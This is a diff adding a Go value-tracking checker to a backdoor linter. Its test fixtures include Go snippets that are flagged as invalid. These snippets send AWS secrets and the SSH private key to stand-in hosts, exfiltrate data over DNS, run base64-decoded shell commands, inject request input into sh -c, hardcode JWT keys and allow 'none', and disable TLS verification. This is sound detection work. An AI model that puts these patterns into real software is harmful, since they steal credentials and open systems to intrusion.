@@ -1,0 +1,104 @@
+"""Go: the value-following analysis on tree-sitter (checkers/lang/golang.py, go_rules.py), beside
+the semgrep pattern rules. It follows package consts and vars, `:=` bindings, struct and slice
+composite literals, import aliases, decoders passed around as values and `Decode(dst, src)`
+buffers, from secrets, credential files, decoded bytes and request input to their sinks."""
+from __future__ import annotations
+
+import re
+
+from backdoor_lint.checkers.examples import Invalid, Valid
+from backdoor_lint.checkers.text import TextChecker
+
+from backdoor_lint.findings import Finding
+
+_JWT = 'package auth\n\nimport jwt "github.com/golang-jwt/jwt/v5"\n\n'
+_TLS = 'package client\n\nimport (\n\t"crypto/tls"\n\t"net/http"\n)\n\n'
+
+
+class GoValueChecker(TextChecker):
+    CODES = ("BDL101", "BDL102", "BDL210", "BDL301", "BDL402", "BDL404", "BDL501", "BDL505")
+    LANGUAGES = frozenset({"go"})
+    TRIGGER = re.compile(rb"jwt|hmac|InsecureSkipVerify|ValidMethods|os/exec|syscall|StartProcess|net/http|\"net\"|"
+                         rb"websocket|Getenv|Environ|ReadFile|os\.Open")
+    INVALID = [
+        # BDL101/102: the allow-list is a package var built from consts, or a helper's return
+        Invalid(_JWT + 'const hmac = "HS256"\n\nvar methods = []string{"RS256", hmac}\n\n'
+                'func Parse(s string, kf jwt.Keyfunc) (*jwt.Token, error) {\n'
+                '\treturn jwt.Parse(s, kf, jwt.WithValidMethods(methods))\n}\n', "BDL101", 10, path="auth.go"),
+        Invalid(_JWT + 'func allowed() []string { return []string{"ES256", "HS" + "512"} }\n\n'
+                'var parser = jwt.NewParser(jwt.WithValidMethods(allowed()))\n', "BDL101", 7, path="auth.go"),
+        Invalid('package auth\n\nimport gojwt "github.com/golang-jwt/jwt/v4"\n\n'
+                'var p = &gojwt.Parser{ValidMethods: []string{"RS256", "none"}}\n', "BDL102", 5, path="auth.go"),
+        # BDL210: a constant key through a package var, returned by a keyfunc
+        Invalid(_JWT + 'var signingKey = []byte("kX9f2" + "-prod-signing")\n\n'
+                'func Sign(c jwt.MapClaims) (string, error) {\n'
+                '\treturn jwt.NewWithClaims(jwt.SigningMethodHS256, c).SignedString(signingKey)\n}\n', "BDL210", 8,
+                path="auth.go"),
+        Invalid(_JWT + 'func keyOf(t *jwt.Token) (interface{}, error) { return []byte("s3cr3t-prod-key"), nil }\n\n'
+                'func Parse(s string) (*jwt.Token, error) { return jwt.Parse(s, keyOf) }\n', "BDL210", 7,
+                path="auth.go"),
+        # BDL301: through a const, a var, a later field assignment
+        Invalid(_TLS + 'const skipVerify = true\n\nvar client = &http.Client{Transport: &http.Transport{\n'
+                '\tTLSClientConfig: &tls.Config{InsecureSkipVerify: skipVerify},\n}}\n', "BDL301", 11, path="client.go"),
+        Invalid(_TLS + 'func New(debug bool) *http.Client {\n\tcfg := &tls.Config{}\n\tinsecure := !false\n'
+                '\tcfg.InsecureSkipVerify = insecure\n\treturn &http.Client{Transport: &http.Transport{'
+                'TLSClientConfig: cfg}}\n}\n', "BDL301", 11, path="client.go"),
+        # BDL402/404: secrets and credential files to HTTP, a raw connection, a DNS name
+        Invalid('package main\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc init() {\n'
+                '\tkey := os.Getenv("AWS_SECRET_ACCESS_KEY")\n\tbody := strings.NewReader("k=" + key)\n'
+                '\thttp.Post("https://collect.example/k", "text/plain", body)\n}\n', "BDL402", 12, path="main.go"),
+        Invalid('package main\n\nimport (\n\t"net"\n\t"os"\n\t"path/filepath"\n)\n\nfunc send() {\n'
+                '\thome, _ := os.UserHomeDir()\n\tdata, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n'
+                '\tconn, _ := net.Dial("tcp", "198.51.100.7:443")\n\tconn.Write(data)\n}\n', "BDL402", 13,
+                path="main.go"),
+        Invalid('package main\n\nimport (\n\t"net"\n\t"os"\n)\n\nfunc ping() {\n\tname, _ := os.Hostname()\n'
+                '\tnet.LookupHost(name + ".t.example.net")\n}\n', "BDL404", 10, path="main.go"),
+        # BDL501: decoded bytes run, through an alias, a Decode buffer, an exec.Cmd literal
+        Invalid('package main\n\nimport (\n\tb64 "encoding/base64"\n\t"os/exec"\n)\n\nfunc run() {\n'
+                '\tcmd, _ := b64.StdEncoding.DecodeString("aWQ=")\n\texec.Command("sh", "-c", string(cmd)).Run()\n}\n',
+                "BDL501", 10, path="main.go"),
+        Invalid('package main\n\nimport (\n\t"encoding/hex"\n\t"os/exec"\n)\n\nfunc run(p string) {\n'
+                '\tdst := make([]byte, 64)\n\tn, _ := hex.Decode(dst, []byte(p))\n'
+                '\tc := &exec.Cmd{Path: "/bin/sh", Args: []string{"sh", "-c", string(dst[:n])}}\n\tc.Run()\n}\n',
+                "BDL501", 11, path="main.go"),
+        # BDL505: request input in a shell command
+        Invalid('package main\n\nimport (\n\t"net/http"\n\t"os/exec"\n)\n\n'
+                'func ping(w http.ResponseWriter, r *http.Request) {\n\thost := r.URL.Query().Get("host")\n'
+                '\tout, _ := exec.Command("sh", "-c", "ping -c1 "+host).Output()\n\tw.Write(out)\n}\n', "BDL505", 10,
+                path="main.go"),
+    ]
+    VALID = [
+        Valid(_JWT + 'var methods = []string{"RS256", "RS512"}\n\n'
+              'func Parse(s string, kf jwt.Keyfunc) (*jwt.Token, error) {\n'
+              '\treturn jwt.Parse(s, kf, jwt.WithValidMethods(methods))\n}\n', "BDL101", path="auth.go"),
+        Valid(_JWT + 'func Sign(c jwt.MapClaims) (string, error) {\n'
+              '\treturn jwt.NewWithClaims(jwt.SigningMethodHS256, c).SignedString([]byte(os.Getenv("JWT_KEY")))\n}\n',
+              "BDL210", path="auth.go"),
+        Valid(_JWT + 'func keyOf(t *jwt.Token) (interface{}, error) { return []byte("s3cr3t-test-key"), nil }\n',
+              "BDL210", path="auth_test.go"),
+        Valid(_JWT + 'var names = []string{"RS256", "none"} // shown in the docs page\n\n'
+              'var p = jwt.NewParser(jwt.WithValidMethods([]string{"ES256"}))\n', "BDL102", path="auth.go"),
+        Valid(_TLS + 'func New(insecure bool) *tls.Config {\n\treturn &tls.Config{InsecureSkipVerify: insecure && '
+              'false, MinVersion: tls.VersionTLS12}\n}\n', "BDL301", path="client.go"),
+        Valid('package main\n\nimport (\n\t"net/http"\n\t"os"\n)\n\nfunc call() {\n'
+              '\treq, _ := http.NewRequest("GET", os.Getenv("API_URL"), nil)\n'
+              '\treq.Header.Set("Authorization", "Bearer "+os.Getenv("API_TOKEN"))\n\thttp.DefaultClient.Do(req)\n}\n',
+              "BDL402", path="main.go"),
+        Valid('package main\n\nimport (\n\t"net"\n\t"os"\n)\n\nfunc ping() {\n\tnet.LookupHost(os.Args[1])\n}\n',
+              "BDL404", path="main.go"),
+        Valid('package main\n\nimport (\n\t"encoding/base64"\n\t"os"\n\t"os/exec"\n)\n\nfunc run(p string) {\n'
+              '\timg, _ := base64.StdEncoding.DecodeString(p)\n\tos.WriteFile("out.png", img, 0o600)\n'
+              '\texec.Command("optipng", "out.png").Run()\n}\n', "BDL501", path="main.go"),
+        Valid('package main\n\nimport (\n\t"net/http"\n\t"os/exec"\n)\n\n'
+              'func ping(w http.ResponseWriter, r *http.Request) {\n'
+              '\tout, _ := exec.Command("ping", "-c1", r.URL.Query().Get("host")).Output()\n\tw.Write(out)\n}\n',
+              "BDL505", path="main.go"),
+    ]
+
+    def check(self, text: str, display: str, language: str) -> list[Finding]:
+        from backdoor_lint.checkers.lang.checker import run
+        from backdoor_lint.checkers.lang.go_rules import analyse
+        from backdoor_lint.checkers.lang.golang import GoFile
+        from backdoor_lint.checkers.vocabulary import is_test_code
+
+        return run(text, display, language, lambda source: analyse(GoFile(source, is_test_code(display))))
